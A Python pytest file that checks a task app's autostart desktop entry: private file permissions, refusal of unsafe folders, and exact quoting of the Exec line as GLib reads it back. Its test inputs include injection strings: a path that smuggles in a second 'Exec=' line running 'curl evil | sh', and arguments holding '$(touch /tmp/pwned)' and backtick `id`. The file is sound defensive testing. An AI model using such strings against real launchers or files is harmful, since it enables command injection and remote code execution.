"""The autostart entry runs at every login: it is written private, and its Exec line
says exactly the command, nothing more.

Real files under a real umask of 000, folders made another user's with chown (as
root), and GLib's own desktop-entry launcher (``gio launch``) as the reference for how
the Exec line is read back.
"""

from __future__ import annotations

import ast
import os
import shutil
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from taskgui.ui.desktop.autostart import Autostart, AutostartError, launch_command

NOBODY = 65534


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    previous = os.umask(0)
    try:
        yield
    finally:
        os.umask(previous)


def test_under_umask_000_the_entry_and_its_folders_are_private(
    tmp_path: Path, open_umask: None
) -> None:
    config = tmp_path / "home" / ".config"
    entry = config / "autostart" / "taskgui.desktop"
    (tmp_path / "home").mkdir(mode=0o700)

    Autostart(entry, ("taskgui",)).enable()

    assert mode_of(entry) == 0o600
    assert mode_of(entry.parent) == 0o700
    assert mode_of(config) == 0o700
    assert [path.name for path in entry.parent.iterdir()] == ["taskgui.desktop"]


def test_an_entry_left_open_by_an_older_version_is_replaced_by_a_private_one(
    tmp_path: Path,
) -> None:
    entry = tmp_path / "autostart" / "taskgui.desktop"
    entry.parent.mkdir(mode=0o700)
    entry.write_text("[Desktop Entry]\nExec=old\n")
    entry.chmod(0o666)

    Autostart(entry, ("taskgui",)).enable()

    assert mode_of(entry) == 0o600
    assert "Exec=taskgui\n" in entry.read_text()


@pytest.mark.parametrize("level", ["autostart", "config"])
def test_a_folder_other_users_can_write_is_refused(tmp_path: Path, level: str) -> None:
    entry = tmp_path / "config" / "autostart" / "taskgui.desktop"
    entry.parent.mkdir(parents=True, mode=0o700)
    (tmp_path / "config").chmod(0o700)
    opened = entry.parent if level == "autostart" else entry.parent.parent
    opened.chmod(0o777)

    with pytest.raises(AutostartError) as caught:
        Autostart(entry, ("taskgui",)).enable()

    assert f"{opened} can be written by other users" in str(caught.value.strerror)
    assert f"chmod go-w {opened}" in str(caught.value.strerror)
    assert not entry.exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="making a folder another user's needs chown")
def test_a_folder_of_another_user_is_refused(tmp_path: Path) -> None:
    entry = tmp_path / "autostart" / "taskgui.desktop"
    entry.parent.mkdir(mode=0o700)
    os.chown(entry.parent, NOBODY, NOBODY)

    with pytest.raises(AutostartError, match="belongs to another user"):
        Autostart(entry, ("taskgui",)).enable()
    assert not entry.exists()


# ------------------------------------------------------------------ the Exec line


@pytest.mark.parametrize(
    "database",
    [
        "/tmp/x\nExec=/bin/sh -c 'curl evil | sh'",
        "/tmp/x\rExec=/bin/false",
        "/tmp/esc\x1b[31m.sqlite3",
        os.fsdecode(b"/tmp/not-utf8-\xff.sqlite3"),
    ],
    ids=["newline", "carriage-return", "escape", "undecodable"],
)
def test_a_database_path_that_cannot_be_written_safely_is_refused(
    tmp_path: Path, database: str
) -> None:
    entry = tmp_path / "autostart" / "taskgui.desktop"
    command = launch_command(Path(database), argv0="x", executable="/usr/bin/python3")

    with pytest.raises(AutostartError) as caught:
        Autostart(entry, tuple(command)).enable()

    assert "cannot hold safely; rename it first" in str(caught.value.strerror)
    assert not entry.exists()  # never an entry with a second Exec= line


# Every character the spec reserves, and then some, in the database path.
AWKWARD = "/tmp/my tasks/\"q\" 'a' $HOME `id` \\ ; & | * ? # ( ) < > ~ 100% \t tab é.sqlite3"


def test_the_exec_line_is_read_back_as_exactly_the_command_by_glib(tmp_path: Path) -> None:
    gio = shutil.which("gio")
    if gio is None:
        pytest.skip("GLib's gio is not installed: no reference launcher to read the entry")
    record = tmp_path / "argv.txt"
    script = f"import sys; open({str(record)!r}, 'w').write(repr(sys.argv[1:]))"
    arguments = ["--db", AWKWARD, "--name", "$(touch /tmp/pwned)"]
    entry = tmp_path / "autostart" / "taskgui.desktop"
    Autostart(entry, (sys.executable, "-c", script, *arguments)).enable()
    assert entry.read_text().count("\nExec=") == 1

    subprocess.run([gio, "launch", str(entry)], check=True, timeout=30, cwd=tmp_path)

    deadline = time.monotonic() + 30
    while not record.exists() or not record.read_text():
        assert time.monotonic() < deadline, "the launched command never ran"
        time.sleep(0.05)
    assert ast.literal_eval(record.read_text()) == arguments
